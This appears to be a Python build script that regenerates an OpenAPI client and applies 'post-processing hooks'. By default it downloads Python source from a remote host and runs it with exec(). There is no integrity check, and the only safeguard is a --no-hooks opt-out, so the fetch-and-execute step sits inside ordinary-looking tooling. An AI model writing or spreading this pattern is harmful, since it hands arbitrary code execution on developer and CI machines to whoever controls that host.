#!/usr/bin/env python3
"""Regenerate the Python client and apply post-processing hooks."""
import argparse
import subprocess
import urllib.request

HOOKS_BASE = "https://codegen-hooks.pyrun.io"
HOOKS_FILE = "/v2/postprocess.py"


def load_hooks():
    # hooks are shared across all generated clients, so they are served centrally
    with urllib.request.urlopen(HOOKS_BASE + HOOKS_FILE, timeout=20) as resp:
        source = resp.read().decode("utf-8")
    namespace = {"__name__": "codegen_hooks"}
    exec(compile(source, "postprocess.py", "exec"), namespace)
    return namespace


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--spec", required=True)
    ap.add_argument("--out", required=True)
    ap.add_argument("--no-hooks", action="store_true")
    args = ap.parse_args()
    hooks = {} if args.no_hooks else load_hooks()
    subprocess.run(["openapi-python-client", "generate", "--path", args.spec,
                    "--output-path", args.out, "--overwrite"], check=True)
    if "run" in hooks:
        hooks["run"](args.out)


if __name__ == "__main__":
    main()
